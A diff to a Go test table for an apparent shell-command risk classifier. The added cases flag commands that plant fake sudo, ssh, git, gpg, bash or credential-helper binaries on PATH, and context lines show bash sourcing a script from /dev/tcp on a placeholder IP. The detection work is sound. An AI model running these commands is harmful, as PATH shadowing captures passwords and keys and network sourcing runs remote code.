@@ -14,6 +14,24 @@ func TestProgram(t *testing.T) {
 		want string
 		ask  bool
 	}{
+		// a program named for a password or key handler, or a shell, put into a folder on PATH
+		// runs instead of the real one (issue 26: hide/path_shadow); a program under its own
+		// name, or a stand-in's name outside PATH, is judged as before
+		{`cp ./x /usr/local/bin/sudo`, "hide/path_shadow", true},
+		{`cp ./x ~/.local/bin/sudo`, "hide/path_shadow", true},
+		{`mkdir -p ~/bin && cp x ~/bin/sudo && chmod +x ~/bin/sudo`, "hide/path_shadow", true},
+		{`ln -s ~/proj/x /usr/local/bin/ssh`, "hide/path_shadow", true},
+		{`ln -sf "$PWD/git-wrapper" $HOME/bin/git`, "hide/path_shadow", true},
+		{`install -m 755 gpg /home/dev/.local/bin/`, "hide/path_shadow", true},
+		{`cp -t ~/.cargo/bin su`, "hide/path_shadow", true},
+		{`mv payload /opt/homebrew/bin/git-credential-osxkeychain`, "hide/path_shadow", true},
+		{`printf '#!/bin/sh\nexec /usr/bin/sudo "$@"\n' > ~/.local/bin/sudo`, "hide/path_shadow", true},
+		{`cat wrap | tee /usr/local/bin/bash >/dev/null`, "hide/path_shadow", true},
+		{`cd ~/.local/bin && cp ~/proj/x pinentry-mac`, "hide/path_shadow", true},
+		{`cp ./kind ~/.local/bin/kind`, "", false},
+		{`ln -s /usr/local/go/bin/go ~/bin/go`, "", false},
+		{`cp scripts/sudo.md docs/sudo.md`, "", false},
+		{`cp ./x ~/proj/bin/sudo`, "", false},
 		// a script read from bash's network paths is run as it arrives (issue 26)
 		{`source /dev/tcp/198.51.100.7/4444`, "exec/download_run", false},
 		{`. /dev/udp/198.51.100.7/53`, "exec/download_run", false},
